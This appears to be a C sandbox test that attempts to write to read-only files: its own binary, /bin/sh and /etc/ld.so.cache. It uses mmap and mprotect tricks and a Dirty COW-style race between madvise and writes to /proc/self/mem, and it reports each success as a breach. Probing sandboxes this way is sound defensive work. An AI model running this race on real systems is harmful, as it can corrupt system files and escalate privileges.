// write to files that it may only read: through maps, its own memory in procfs, and races between both
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static char *map;
static volatile int over;

static void *forget(void *none) {
    while (!over) madvise(map, 4096, MADV_DONTNEED);
    return none;
}

static void *overwrite(void *none) {
    const int memory = open("/proc/self/mem", O_RDWR);
    for (int i = 0; i < 20000 && memory >= 0; i++)
        if (pwrite(memory, "BREACHED", 8, (off_t)(uintptr_t)map) < 0) break;
    over = 1;
    return none;
}

static void attack(const char *path) {
    char before[64] = {0}, after[64] = {0};
    const int fd = open(path, O_RDONLY);
    if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0) return;
    if (open(path, O_RDWR) >= 0 || open(path, O_WRONLY | O_APPEND) >= 0) printf("BREACH opened %s\n", path);
    if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) printf("BREACH mapped %s\n", path);
    char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (shared != MAP_FAILED && mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0) printf("BREACH a map of %s\n", path);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) return;
    over = 0;
    pthread_t first, second;
    if (pthread_create(&first, NULL, forget, NULL)) return;
    if (pthread_create(&second, NULL, overwrite, NULL)) over = 1;
    else pthread_join(second, NULL);
    pthread_join(first, NULL);
    /* A fresh descriptor, and the map of the file itself. */
    const int again = open(path, O_RDONLY);
    if (pread(again, after, sizeof after, 0) <= 0 || memcmp(before, after, sizeof after)) printf("BREACH wrote %s\n", path);
    if (shared != MAP_FAILED && memcmp(before, shared, sizeof before)) printf("BREACH wrote a page of %s\n", path);
    munmap(map, 4096);
    close(fd), close(again);
}

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    char own[512] = {0};
    if (readlink("/proc/self/exe", own, sizeof own - 1) > 0) attack(own);
    attack("/bin/sh");
    attack("/etc/ld.so.cache");
    puts("DONE");
}
